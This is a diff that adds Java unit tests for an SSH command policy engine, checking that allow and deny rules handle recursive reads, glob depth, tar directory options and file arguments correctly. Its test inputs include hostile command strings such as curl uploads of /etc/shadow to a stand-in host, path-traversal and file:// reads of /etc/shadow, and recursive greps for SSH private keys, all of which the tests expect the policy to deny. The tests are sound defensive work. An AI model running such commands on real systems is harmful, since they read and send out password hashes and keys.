@@ -196,6 +196,61 @@ class SshPolicyDecisionTest {
         }
 
         @Test
+        void aCommandThatReadsRecursivelyIsAllowedOnlyWhenEverythingUnderWhatItNamesIsCovered() {
+            Policy p = denyByDefault()
+                    .rule(Rule.allow("app-tree").ssh(ssh().programs("grep", "tar", "cat").arguments("-*", "*")
+                            .paths("/var/log/app/**", "/srv/data/*")))
+                    .build();
+            assertDecided(Effect.ALLOW, "app-tree", p, "grep -r ERROR /var/log/app");
+            assertDecided(Effect.ALLOW, "app-tree", p, "grep -r ERROR /var/log/app/2024/*");
+            assertDecided(Effect.ALLOW, "app-tree", p, "tar -czf - /var/log/app/old");
+            assertDecided(Effect.ALLOW, "app-tree", p, "grep ERROR /srv/data/x.csv");
+            assertDecided(Effect.ALLOW, "app-tree", p, "cat /srv/data/sub");
+            // /srv/data/* covers the files in /srv/data, not what lies deeper.
+            assertDecided(Effect.DENY, Verdict.DEFAULT_RULE, p, "grep -r ERROR /srv/data/sub");
+            assertDecided(Effect.DENY, Verdict.DEFAULT_RULE, p, "tar -czf - /srv/data/sub");
+            assertDecided(Effect.DENY, Verdict.DEFAULT_RULE, p, "grep -r ERROR /var/log");
+        }
+
+        @Test
+        void aDenyRuleOnPathsMatchesARecursiveReadOfADirectoryHoldingThemAndNothingElse() {
+            Policy p = Policy.builder().name("test").defaultEffect(Effect.ALLOW)
+                    .rule(Rule.deny("no-keys").ssh(ssh().paths("/home/*/.ssh/**")))
+                    .build();
+            assertDecided(Effect.DENY, "no-keys", p, "grep -r BEGIN /home");
+            assertDecided(Effect.DENY, "no-keys", p, "tar -czf - /home/deploy");
+            assertDecided(Effect.DENY, "no-keys", p, "cp -r /home/* /tmp/h");
+            assertDecided(Effect.DENY, "no-keys", p, "rsync -a . backup:/x");
+            assertDecided(Effect.ALLOW, Verdict.DEFAULT_RULE, p, "grep -r BEGIN /home/deploy/app");
+            assertDecided(Effect.ALLOW, Verdict.DEFAULT_RULE, p, "grep BEGIN /home/deploy");
+            assertDecided(Effect.ALLOW, Verdict.DEFAULT_RULE, p, "tar -czf - /var/log/app");
+        }
+
+        @Test
+        void anAllowRuleSeesTheFilesNamedAfterSeparatorsAndInURLs() {
+            Policy p = denyByDefault()
+                    .rule(Rule.allow("upload-logs").ssh(ssh().programs("curl").arguments("-*", "*")
+                            .paths("/var/log/app/**")))
+                    .build();
+            for (String line : List.of("curl -F 'f=@/etc/shadow' https://up.example/x",
+                    "curl -F 'f=@/var/log/app/x,/etc/shadow' https://up.example/x",
+                    "curl -F 'f=@\"/var/log/app/../../../etc/shadow\"' https://up.example/x",
+                    "curl file:///etc/shadow", "curl file://localhost/etc/shadow")) {
+                assertDecided(Effect.DENY, Verdict.DEFAULT_RULE, p, line);
+            }
+        }
+
+        @Test
+        void afterADirectoryOptionRelativePathsAreUnderADirectoryNobodyKnows() {
+            Policy p = denyByDefault()
+                    .rule(Rule.allow("home").ssh(ssh().programs("tar").paths("/home/deploy/**")))
+                    .build();
+            assertDecided(Effect.ALLOW, "home", p, "tar -cf out.tar notes");
+            assertDecided(Effect.DENY, Verdict.DEFAULT_RULE, p, "tar -cf out.tar -C /etc notes");
+            assertDecided(Effect.DENY, Verdict.DEFAULT_RULE, p, "tar -cf out.tar --directory=/home/deploy/../.. notes");
+        }
+
+        @Test
         void withoutArgumentsAnAllowRuleOnPathsReadsPlainWordsAsFilesInTheWorkingDirectory() {
             Policy p = denyByDefault().rule(Rule.allow("home").ssh(ssh().programs("cat").paths("/home/deploy/**")))
                     .build();
